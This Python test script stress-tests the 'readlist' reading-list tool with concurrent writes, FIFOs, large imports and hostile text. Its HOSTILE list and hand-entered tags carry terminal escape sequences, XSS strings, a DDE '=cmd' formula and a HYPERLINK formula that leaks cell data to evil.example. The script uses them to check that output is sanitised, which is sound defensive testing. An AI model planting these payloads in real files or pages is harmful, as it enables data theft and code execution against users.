        """Hostile text imported from every format, and by hand, then printed in every way."""
        db = self.store_copy("leaks.json")
        folder = self.work / "hostile"
        folder.mkdir()
        for name, data in hostile_inputs().items():
            (folder / name).write_bytes(data)
        run = self.rl.run(db, ["import", str(folder)])
        part.judge(run, expect={0, 1}, what="(the hostile files)")
        part.check_leaks(run, "import of the hostile files")
        entries = entries_of(self.rl, db)
        keys = [e["key"] for e in entries]
        victim = keys[0]
        self.check_stored_text(part, db, "after importing the hostile files")
        for args in (
            ["tag", victim, "-t", "=cmd|' /C calc'!A0", "-t", "+tag", "-t", "<script>tag"],
            ["tag", victim, "-t", "ev\x1b[2Jil\u202etag"],
            ["note", victim, " ".join(HOSTILE)],
            ["note", victim, "a byte that is not UTF-8: \udcff"],  # passed to the command as 0xFF
            ["add", "--title", "Hand added " + " ".join(HOSTILE), "--author", "Eve \u202eliam\u202c Doe"],
            ["edit", keys[1], "--venue", HOSTILE[1] + " =SUM(A1)", "--url", "javascript:alert(1)"],
            ["status", victim, "reading"],
        ):
            run = self.rl.run(db, args)
            part.judge(run, expect={0}, what="(hostile text by hand)")
            part.check_leaks(run, f"readlist {shown(args[:1])}")
        self.check_stored_text(part, db, "after tag, note, add and edit")
        keys = [e["key"] for e in entries_of(self.rl, db)]
        shows = keys if not self.args.quick else keys[:4] + keys[-4:]
        commands: list[tuple[list[str], dict[str, bool]]] = [
            (["list"], {}), (["list", "--keys"], {}), (["list", "--json"], {}), (["list", "--limit", "1000"], {}),
            (["search", "attention"], {}), (["search", "--json", "eve"], {}), (["search", "pwned"], {}),
            (["log"], {}), (["log", "--markdown"], {"markdown": True}), (["log", "--json"], {}),
            (["cite", *keys], {}), (["cite", "--bib", *keys], {}), (["tags"], {}), (["stats"], {}), (["next"], {}),
            (["export"], {}), (["export", "--profile", "biblatex"], {}), (["export", "--format", "json"], {}),
            (["export", "--format", "csv"], {"csv_output": True}),
            (["export", "--format", "markdown"], {"markdown": True}),
        ]  # fmt: skip
        commands += [(["show", key], {}) for key in shows] + [(["show", "--json", key], {}) for key in shows[:8]]
        lock = threading.Lock()

        def one(args: list[str], kinds: dict[str, bool]) -> None:
            run = self.rl.run(db, args)
            with lock:
                if not part.judge(run, expect={0}):
                    part.check_leaks(run, f"readlist {shown(args[:3])}", **kinds)

        self.parallel([lambda a=a, k=k: one(a, k) for a, k in commands])
        part.facts["entries with hostile text"] = len(keys) - len(self.keys)

    # 6 ------------------------------------------------------------------------------------
    def devices(self, part: Part) -> None:
        """`export -o FIFO` and `-o -` write in place; a FIFO as the store is refused, not read."""
        db = self.store_copy("devices.json")
        fifo = self.work / "out.fifo"
        os.mkfifo(fifo)
        for fmt in ("bibtex", "json", "csv", "markdown"):
            expected = self.rl.run(db, ["export", "--format", fmt]).out
            got: list[bytes] = []
            reader = threading.Thread(target=lambda got=got: got.append(drain(fifo)), daemon=True)
            reader.start()
            run = self.rl.run(db, ["export", "--format", fmt, "-o", str(fifo)], timeout=30)
            if run.hung or run.rc != 0:
                release(fifo)  # let the reader go
            reader.join(5)
            self.check_node(part, fifo, stat.S_ISFIFO)
            if not part.judge(run, expect={0}, what="(to a FIFO)") and (not got or got[0] != expected):
                part.fact("wrong output")
                part.note(f"export --format {fmt} -o FIFO: the reader got other bytes than `export` prints")
            dash = self.rl.run(db, ["export", "--format", fmt, "-o", "-"])
            if not part.judge(dash, expect={0}) and dash.out != expected:
                part.fact("wrong output")
                part.note(f"export --format {fmt} -o -: not what `export` prints")
            if (self.work / "-").exists():
                part.fact("nodes replaced")
                part.note("export -o - wrote a file named '-'")
        for args in (["list"], ["tag", self.keys[0], "-t", "x"], ["import", str(ROOT / "examples")]):
            run = self.rl.run(fifo, args, timeout=20)
            if run.hung:
                release(fifo)
            part.judge(run, expect={ExitCode.STORE}, what="(the store is a FIFO)")
            self.check_node(part, fifo, stat.S_ISFIFO)
        folder = self.work / "a-directory"
        folder.mkdir()
        (folder / "inside").write_text("x")
        run = self.rl.run(db, ["export", "-o", str(folder)])
        part.judge(run, expect={ExitCode.INVALID_INPUT}, what="(-o a directory)")
        self.check_node(part, folder, stat.S_ISDIR)
        run = self.rl.run(folder, ["list"])
        part.judge(run, expect={ExitCode.STORE}, what="(the store is a directory)")
        # a digest arriving through a FIFO is imported
        source = self.work / "in.fifo"
        os.mkfifo(source)
        text = digest("Piped", "2024-04-01", generated_papers("Piped", 3)).encode()
        writer = threading.Thread(target=lambda: feed(source, text), daemon=True)
        writer.start()
        run = self.rl.run(db, ["import", str(source)], timeout=30)
        if run.hung:
            drain(source)
        writer.join(5)
        part.judge(run, expect={0}, what="(a digest through a FIFO)")
        self.check_node(part, source, stat.S_ISFIFO)
        run = self.rl.run(db, ["import", "-"], stdin=text)
        part.judge(run, expect={0}, what="(a digest on stdin)")

    def check_stored_text(self, part: Part, db: Path, when: str) -> None:
        """README: controls are dropped from all text entering the store, whatever its source."""
        for doc in json.loads(db.read_bytes())["entries"].values():
            found = [f for text in strings_in(doc) for f in leaks_in(text)]
            if found:
                part.fact("entries storing controls")
                part.note(f"{when}: entry {doc['key']!r} stores {', '.join(found[:3])}")

    def check_node(self, part: Part, path: Path, is_kind: Callable[[int], bool]) -> None:
        if not is_kind(os.lstat(path).st_mode):
            part.fact("nodes replaced")
            part.note(f"{path.name} is no longer what it was")

    # 7 ------------------------------------------------------------------------------------
    def memory(self, part: Part) -> None:
        """Peak RSS of two big imports, as a multiple of the input's size."""
        names, papers = (50_000, 5_000) if self.args.quick else (2_000_000, 100_000)
        authors = self.work / "authors.txt"
        with authors.open("w", encoding="utf-8") as out:
            out.write("Huge author list\n\n2024-05-01 更新\n\nA paper with very many authors\n\nAuthors:")
            for start in range(0, names, 10_000):
                out.write(", ".join(short_name(i) for i in range(start, min(names, start + 10_000))))
                out.write(", " if start + 10_000 < names else "\n\nOne abstract.\n\n\n")
        big = self.work / "papers.txt"
        with big.open("w", encoding="utf-8") as out:
            out.write(digest("Big digest", "2024-05-01", []))
            for start in range(0, papers, 1000):
                out.write(digest("", "", generated_papers(f"Batch{start}", 1000)).split("更新\n\n", 1)[1])
        spawner = [sys.executable, "-I", "-S", "-c", SPAWNER]
        for label, path in ((f"{names:,} authors on one line", authors), (f"{papers:,}-paper digest", big)):
            db = self.work / f"memory-{path.stem}.json"
            log = self.work / f"memory-{path.stem}.out"
            start = time.monotonic()
            proc = subprocess.run(
                [*spawner, str(log), *self.rl.command, "--db", str(db), "import", str(path)],
                capture_output=True,
                timeout=self.args.timeout * 20,
                env=quiet_env(),
            )
            seconds = time.monotonic() - start
            rss_kb, rc = (int(x) for x in proc.stdout.split())
            err = log.read_bytes()
            run = Run(["--db", str(db), "import", str(path)], rc, b"", err, seconds)
            part.judge(run, expect={0})
            size = path.stat().st_size
            part.facts[label] = {
                "input MB": round(size / 2**20, 1),
                "peak RSS MB": round(rss_kb / 1024, 1),
                "ratio": round(rss_kb * 1024 / size, 1),
                "seconds": round(seconds, 1),
            }

    # ------------------------------------------------------------------------------------
    def run(self) -> int:
        self.keys = self.make_base()
        chosen = self.args.parts
        for name, body in (
            ("1 concurrency", self.concurrency),
            ("2 crash safety", self.crash_safety),
            ("3 fuzzed imports", self.fuzz),
            ("4 hostile stores", self.hostile_stores),
            ("5 output leaks", self.output_leaks),
            ("6 devices", self.devices),
            ("7 memory", self.memory),
        ):
            if name[0] in chosen:
                self.part(name, body)
        return 1 if any(p.failures for p in self.parts) else 0


SPAWNER = """
import os, sys
log = os.open(sys.argv[1], os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
pid = os.fork()
if pid == 0:
    os.dup2(log, 1)
    os.dup2(log, 2)
    os.execv(sys.argv[2], sys.argv[2:])
_, status, usage = os.wait4(pid, 0)
print(usage.ru_maxrss, os.waitstatus_to_exitcode(status))
"""  # a bare interpreter forks the import, so its peak RSS is not this script's high-water mark


def short_name(i: int) -> str:
    """`A Bcde`: 2,000,000 of them joined by `, ` make the 16 MB author line of issue 11."""
    letters = "abcdefghijklmnopqrstuvwxyz"
    family = "".join(letters[i // 26**k % 26] for k in range(1, 5))
    return f"{letters[i % 26].upper()} {family[0].upper()}{family[1:]}"


def drain(fifo: Path) -> bytes:
    with open(fifo, "rb") as f:
        return f.read()


def feed(fifo: Path, data: bytes) -> None:
    with open(fifo, "wb") as f:
        f.write(data)


def release(fifo: Path) -> None:
    """Open the other end of a FIFO without blocking, so a thread waiting on it returns."""
    try:
        fd = os.open(fifo, os.O_WRONLY | os.O_NONBLOCK)
    except OSError:
        fd = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)
    os.close(fd)


HOSTILE = [
    "\x1b]0;pwned\x07", "\x1b]52;c;ZXZpbA==\x07", "\x1b[2J", "\u009b31mred", "\u009d0;x\u009c", "\u202eevil",
    "\u2066iso\u2069", "bell\x07", "back\x08space", "cr\rline", "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", '=HYPERLINK("http://evil.example/?leak="&A1,"x")', "+1", "-1 dB", "@SUM(1)",
    "[bold red]markup[/]", "`tick`",
]  # fmt: skip


def hostile_inputs() -> dict[str, bytes]:
    """One file per format, every text field carrying the hostile strings."""
    h = HOSTILE
    papers = [
        (f"{h[i]} Hostile title {n} {h[(i + 5) % len(h)]}", f"Eve{n} {h[(i + 2) % len(h)]}Doe, Mal Lory{n}",
         f"Abstract {n} {h[(i + 3) % len(h)]} and {h[(i + 7) % len(h)]}.", f"{h[(i + 9) % len(h)]} comment")
        for n, i in enumerate(range(len(h)))
    ]  # fmt: skip
    papers = [(t.replace("\r", " "), a.replace("\r", " "), b, c.replace("\r", " ")) for t, a, b, c in papers]
    files = {"hostile.txt": digest(h[0] + "Topic " + h[5], "2024-06-01", papers).encode()}
    files["hostile.bib"] = "".join(
        f"@article{{hostile{n},\n  title = {{{t}}},\n  author = {{{a.replace(', ', ' and ')}}},\n"
        f"  journal = {{{c}}},\n  year = {{2024}},\n  note = {{{b}}},\n  url = {{https://x.example/{h[n % 3]}}}\n}}\n\n"
        for n, (t, a, b, c) in enumerate(papers)
    ).encode()
    files["hostile.jsonl"] = "".join(
        json.dumps({"id": f"2406.{10000 + n}", "title": t, "authors": a.split(", "), "summary": b,
                    "comment": c, "categories": ["cs.CV"]}) + "\n"
        for n, (t, a, b, c) in enumerate(papers)
    ).encode()  # fmt: skip
    files["hostile.md"] = (
        "---\ntitle: Hostile \x1b[2J markdown\ndate: 2024-06-02\n---\n\n# 2024-06-02 更新\n\n"
        + "".join(
            f"## {t}\n\n**Authors:{a}**\n\n{b}\n\n[PDF](https://arxiv.org/abs/2406.{20000 + n}) {c}\n\n"
            for n, (t, a, b, c) in enumerate(papers)
        )
    ).encode()

    def entity(text: str) -> str:
        return "".join(f"&#x{ord(ch):x};" if unicodedata.category(ch) in ("Cc", "Cf") else ch for ch in text)

    html_papers = "".join(
        f"<h2>{entity(t.replace('<', '&lt;'))}</h2>\n<p><strong>Authors:{entity(a)}</strong></p>\n"
        f"<p>{entity(b.replace('<', '&lt;'))}</p>\n"
        f'<p><a href="https://arxiv.org/abs/2406.{30000 + n}">PDF</a> {entity(c)}</p>\n'
        for n, (t, a, b, c) in enumerate(papers)
    )
    files["hostile.html"] = (
        "<!DOCTYPE html><html><head><title>Hostile &#x1b;]0;t&#x7; page</title></head><body><article>"
        f"<h1>2024-06-03 更新</h1>\n{html_papers}</article></body></html>"
    ).encode()
    xml_safe = lambda s: re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f]", "", s).replace("&", "&amp;").replace("<", "&lt;")  # noqa: E731
    items = "".join(
        f"<item><title>{xml_safe(t)}</title><link>https://arxiv.org/abs/2406.{40000 + n}</link>"
        f"<description>arXiv:2406.{40000 + n}v1 Announce Type: new Abstract: {xml_safe(b)}</description>"
        f"<dc:creator>{xml_safe(a)}</dc:creator><category>cs.CV</category></item>"
        for n, (t, a, b, c) in enumerate(papers)
    )
    files["hostile.rss.xml"] = (
        '<?xml version="1.0" encoding="UTF-8"?><rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/">'
        "<channel><title>cs.CV updates on arXiv.org</title><pubDate>Mon, 03 Jun 2024 00:00:00 -0400</pubDate>"
        f"{items}</channel></rss>"
    ).encode()
    return files


def report(parts: list[Part], args: argparse.Namespace, seconds: float) -> str:
    lines = [
        f"readlist torture test ({'quick' if args.quick else 'full'} run, seed {args.seed}, {seconds:.0f} s)",
        "",
        "| part | tried | crashes | hangs | leaks | bytes changed | also measured |",
        "|---|---:|---:|---:|---:|---:|---|",
    ]
    for p in parts:
        facts = "; ".join(f"{k}: {fmt_fact(v)}" for k, v in p.facts.items())
        lines.append(f"| {p.name} | {p.tried:,} | {p.crashes} | {p.hangs} | {p.leaks} | {p.bytes_changed} | {facts} |")
    findings = [f"- [{p.name}] {f}" for p in parts for f in p.findings]
    if findings:
        lines += ["", f"FINDINGS ({len(findings)}):", *findings[:60]]
        if len(findings) > 60:
            lines.append(f"- ... and {len(findings) - 60} more (see --json)")
    return "\n".join(lines)


def fmt_fact(value: Any) -> str:
    if isinstance(value, dict):
        return "{" + ", ".join(f"{k} {v}" for k, v in value.items()) + "}"
    if isinstance(value, list):
        return ", ".join(map(str, value))
    return f"{value:,}" if isinstance(value, int) else str(value)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(
        description=__doc__.split("\n\n")[0], formatter_class=argparse.RawTextHelpFormatter
    )
    parser.add_argument("--quick", action="store_true", help="a smoke run, under a minute")
    parser.add_argument("--writers", type=int, help="concurrent writers (400; quick 16)")
    parser.add_argument("--kills", type=int, help="kill -9 rounds (160; quick 6)")
    parser.add_argument("--kill-base", type=int, help="papers in the killed store (3000; quick 100)")
    parser.add_argument("--fuzz", type=int, help="mutated files to import (3000; quick 100)")
    parser.add_argument("--batch", type=int, default=50, help="mutated files per import (50)")
    parser.add_argument("--parts", default="1234567", help="which parts to run, e.g. 345 (all)")
    parser.add_argument("--seed", type=int, default=20241128)
    parser.add_argument("--jobs", type=int, default=os.cpu_count() or 2, help="commands run side by side")
    parser.add_argument("--timeout", type=float, default=30.0, help="seconds before a command counts as hung")
    parser.add_argument("--readlist", help="the readlist command (default: the one next to this Python)")
    parser.add_argument("--json", type=Path, help="write the figures and findings here")
    parser.add_argument("--keep", action="store_true", help="keep the work dir (stores, fuzzed files)")
    parser.add_argument("--tmp", type=Path, help="make the work dir in this directory")
    args = parser.parse_args(argv)
    defaults = {"writers": (400, 16), "kills": (160, 6), "kill_base": (3000, 100), "fuzz": (3000, 100)}
    for name, (full, quick) in defaults.items():
        if getattr(args, name) is None:
            setattr(args, name, quick if args.quick else full)
    command = Path(sys.executable).parent / "readlist"
    args.readlist = args.readlist.split() if args.readlist else [str(command)]
    if not shutil.which(args.readlist[0]):
        parser.error(f"no readlist command at {args.readlist[0]} (install readlist or give --readlist)")
    work = Path(tempfile.mkdtemp(prefix="readlist-torture-", dir=args.tmp))
    start = time.monotonic()
    try:
        torture = Torture(args, work)
        code = torture.run()
    finally:
        if args.keep:
            print(f"work dir kept: {work}", file=sys.stderr)
        else:
            shutil.rmtree(work, ignore_errors=True)
    seconds = time.monotonic() - start
    print(report(torture.parts, args, seconds))
    if args.json:
        payload = {
            "quick": args.quick, "seed": args.seed, "seconds": round(seconds, 1),
            "parts": [{"name": p.name, "tried": p.tried, "crashes": p.crashes, "hangs": p.hangs, "leaks": p.leaks,
                       "bytes_changed": p.bytes_changed, "facts": p.facts, "findings": p.findings,
                       "seconds": round(p.seconds, 1)} for p in torture.parts],
        }  # fmt: skip
        args.json.write_text(json.dumps(payload, indent=2, ensure_ascii=False) + "\n", encoding="utf-8")
    return code


if __name__ == "__main__":
    sys.exit(main())
